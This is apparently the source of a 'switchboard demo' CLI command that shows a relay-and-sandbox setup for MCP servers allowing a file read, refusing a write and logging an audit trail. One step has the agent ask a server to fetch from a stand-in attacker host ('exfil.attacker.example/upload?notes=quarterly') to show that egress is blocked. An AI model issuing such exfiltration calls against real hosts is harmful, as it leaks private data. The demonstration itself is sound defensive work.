import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { CertificateAuthority, writeIdentityFiles } from '@switchboard/pki';
import type { CliIo } from '@switchboard/common/cli';
import type { AuditRecord } from '@switchboard/audit';
import { runAuditVerify } from '@switchboard/audit/cli';
import { startRelay } from '@switchboard/relay';
import { parseConnectorConfig, sandboxTools, startConnector } from '@switchboard/connector';
import { connect } from '@switchboard/agent-sdk';
import { formatAuditRecord } from './demo-audit.js';

const TD = 'demo.switchboard.test';
const AGENT = `spiffe://${TD}/agent/support`;
const CONNECTOR = `spiffe://${TD}/connector/files`;
const RELAY = `spiffe://${TD}/relay/demo`;

// The read tools of @modelcontextprotocol/server-filesystem are allowed, its write tools denied;
// server-everything's gzip-file-as-resource (it fetches a URL) is allowed: the connector's
// sandbox, not the relay, stops where it may reach.
const POLICY = `trustDomain: ${TD}
servers:
  files:
    connectors: [${CONNECTOR}]
  everything:
    connectors: [${CONNECTOR}]
rules:
  - id: support-reads-files
    agents: [spiffe://${TD}/agent/support]
    servers: [files]
    tools:
      allow: ["read_*", "list_*", "search_files", "get_file_info", "directory_tree"]
      deny: ["write_*", "edit_*", "create_*", "move_*"]
  - id: support-fetches
    agents: [spiffe://${TD}/agent/support]
    servers: [everything]
    tools: { allow: [gzip-file-as-resource] }
`;
/** EXFIL is the undeclared host the demo's server is asked to fetch from. */
const EXFIL = 'exfil.attacker.example';

/** DemoOptions tune `switchboard demo` (tests keep the temporary directory to inspect it). */
export interface DemoOptions {
  keep?: boolean;
}

/**
 * runDemo starts a real relay, a connector in front of `@modelcontextprotocol/server-filesystem`
 * over a temporary folder, and an agent that lists its tools, reads a file (allowed), tries to
 * write one (refused by the relay), then prints the audit trail and verifies it as
 * `switchboard audit verify` does. Everything binds loopback and is removed afterwards. Returns
 * the exit code.
 */
export async function runDemo(opts: DemoOptions, io: CliIo): Promise<number> {
  const say = (s = ''): void => {
    io.stdout.write(`${s}\n`);
  };
  const dir = await mkdtemp(join(tmpdir(), 'switchboard-demo-'));
  const closers: (() => Promise<unknown>)[] = [];
  try {
    say('Switchboard demo: an agent reaches a private MCP server that has no inbound port.\n');

    say(`1. A throwaway trust domain "${TD}": a CA (with its audit signing key), and identities for the relay, the connector and the agent.`);
    const ca = await CertificateAuthority.create({ trustDomain: TD });
    const pki = join(dir, 'pki');
    await ca.save(pki);
    const bundle = ca.bundle();
    const ids = join(dir, 'ids');
    for (const [name, id] of [['relay', RELAY], ['connector', CONNECTOR], ['agent', AGENT]] as const) {
      await writeIdentityFiles(join(ids, name), { svid: await ca.issueX509Svid(id, { ttlSeconds: 600 }), bundle });
      say(`   ${id.padEnd(48)} 10-minute X509-SVID in ids/${name}/`);
    }

    const files = join(dir, 'private-files');
    await mkdir(files);
    await writeFile(join(files, 'notes.txt'), 'Quarterly numbers are in the CRM. Nothing secret here.\n');
    await writeFile(join(dir, 'policy.yaml'), POLICY);
    const auditPath = join(dir, 'audit.log');

    say('\n2. The relay: mutual TLS 1.3 on 127.0.0.1, policy = read tools allowed, write tools denied,');
    say('   audit trail in strict mode (a call goes through only once its record is on disk), checkpoints signed.');
    const relay = await startRelay({
      listen: '127.0.0.1:0',
      identity: join(ids, 'relay'),
      policy: join(dir, 'policy.yaml'),
      audit: { path: auditPath, durability: 'strict', signingKey: join(pki, 'audit_key.pem') },
    });
    closers.push(() => relay.close());
    say(`   listening at ${relay.url}`);

    say('\n3. The connector dials OUT to the relay and serves "files": @modelcontextprotocol/server-filesystem');
    say(`   over ${files}, and "everything": @modelcontextprotocol/server-everything (one server process per`);
    say('   agent session, no port opened).');
    const require = createRequire(import.meta.url);
    const serverEntry = require.resolve('@modelcontextprotocol/server-filesystem/dist/index.js');
    const everythingEntry = require.resolve('@modelcontextprotocol/server-everything/dist/index.js');
    // Contained (docs/containment.md): no network, no files but the folder. Where this machine has no
    // sandbox the demo says so and opts out explicitly; the connector itself would refuse.
    const contained = await sandboxTools().then(
      (t) => t.socat !== undefined || 'socat is not installed (apt-get install socat)',
      (err: Error) => err.message,
    );
    const containment = contained === true ? {} : { egress: 'any', filesystem: 'any' };
    if (contained === true) say(`   Each runs in a bubblewrap sandbox: no network, no file but the system's, its program and ${files}.`);
    else say(`   NOT contained on this machine — ${contained}; the demo opts out (egress: any, filesystem: any).`);
    const connector = await startConnector(
      parseConnectorConfig(
        {
          relays: [relay.url],
          identity: join(ids, 'connector'),
          servers: {
            files: { command: process.execPath, args: [serverEntry, files], filesystem: { write: [files] }, ...containment },
            everything: { command: process.execPath, args: [everythingEntry, 'stdio'], ...containment },
          },
        },
        { baseDir: dir },
      ),
      { drainTimeoutMs: 0 },
    );
    closers.unshift(() => connector.close());
    await connector.ready();
    say('   link up, "files" and "everything" registered');

    say(`\n4. The agent (${AGENT}) connects through the relay with the MCP SDK client.`);
    const client = await connect({ relay: relay.url, server: 'files', identity: join(ids, 'agent') });
    closers.unshift(() => client.close());
    const { tools } = await client.listTools();
    say(`   tools/list → ${tools.length} tools visible (filtered by the relay): ${tools.map((t) => t.name).join(', ')}`);

    const read = await client.callTool({ name: 'read_text_file', arguments: { path: join(files, 'notes.txt') } });
    const text = (read.content as { type: string; text?: string }[]).find((c) => c.type === 'text')?.text ?? '';
    say(`   tools/call read_text_file notes.txt → allowed: "${text.trim()}"`);

    const target = join(files, 'pwned.txt');
    let refusal = '';
    try {
      const r = await client.callTool({ name: 'write_file', arguments: { path: target, content: 'owned' } });
      refusal = `NOT refused: ${JSON.stringify(r)}`;
    } catch (err) {
      refusal = `refused by the relay: ${(err as Error).message}`;
    }
    const created = await stat(target).then(
      () => true,
      () => false,
    );
    say(`   tools/call write_file pwned.txt  → ${refusal}`);
    say(`   pwned.txt exists afterwards? ${created ? 'YES (this is a bug)' : 'no — the call never reached the server'}`);
    await client.close();
    closers.shift();

    // A tool the policy allows, asked to fetch from a host the server's config does not declare.
    const fetcher = await connect({ relay: relay.url, server: 'everything', identity: join(ids, 'agent') });
    closers.unshift(() => fetcher.close());
    let fetched = '';
    try {
      const r = (await fetcher.callTool({ name: 'gzip-file-as-resource', arguments: { name: 'notes.gz', data: `https://${EXFIL}/upload?notes=quarterly`, outputType: 'resource' } })) as { isError?: boolean; content?: { text?: string }[] };
      fetched = r.isError ? `failed inside the server: ${(r.content?.[0]?.text ?? '').split('\n')[0]}` : 'NOT stopped: the server fetched it';
    } catch (err) {
      fetched = `failed: ${(err as Error).message}`;
    }
    say(`   tools/call gzip-file-as-resource https://${EXFIL}/… → ${fetched}`);
    await fetcher.close();
    closers.shift();
    // Let the relay see the agent leave (bounded), then shut down cleanly: the relay records the
    // session and link ends and signs a final checkpoint.
    for (let i = 0; i < 50 && relay.metrics().sessionsOpen > 0; i++) await new Promise((r) => setTimeout(r, 20));
    for (const close of closers.splice(0)) await close();

    say('\n5. The audit trail (audit.log, one hash-chained JSON line per record; arguments only as a digest):');
    const records = (await readFile(auditPath, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as AuditRecord);
    for (const r of records) say(`   ${formatAuditRecord(r)}`);

    say('\n6. switchboard audit verify audit.log --key pki/audit_pub.pem');
    let verifyOut = '';
    const verified = await runAuditVerify(
      { files: [auditPath], key: join(pki, 'audit_pub.pem') },
      { stdout: { write: (s: string) => (verifyOut += s) }, stderr: { write: (s: string) => (verifyOut += s) }, env: {} },
    );
    for (const line of verifyOut.trim().split('\n')) say(`   ${line.replace(dir, '.')}`);

    const egressRecorded = records.some((r) => r.type === 'egress.denied' && r.destination === EXFIL);
    const egressOk = contained === true ? egressRecorded && !fetched.startsWith('NOT') : true;
    const ok = !created && refusal.startsWith('refused') && text.includes('Quarterly') && verified === 0 && egressOk;
    say(
      ok
        ? `\nDone: allowed call served, denied call refused at the relay, ${contained === true ? 'the undeclared host unreachable from the sandbox, ' : ''}every decision recorded and verified.`
        : '\nDemo FAILED: see above.',
    );
    return ok ? 0 : 1;
  } catch (err) {
    io.stderr.write(`demo: ${(err as Error).stack ?? String(err)}\n`);
    return 1;
  } finally {
    for (const close of closers) await close().catch(() => undefined);
    if (!opts.keep) await rm(dir, { recursive: true, force: true });
    else say(`(kept ${dir})`);
  }
}

/** demoCommand builds `switchboard demo`. */
export function demoCommand(io: CliIo, setExit: (code: number) => void): Command {
  return new Command('demo')
    .description('run a relay, a connector, an MCP server and an agent on loopback and show an allowed call, a denied call and the audit trail')
    .option('--keep', 'keep the temporary directory')
    .action(async (o: DemoOptions) => setExit(await runDemo(o, io)));
}
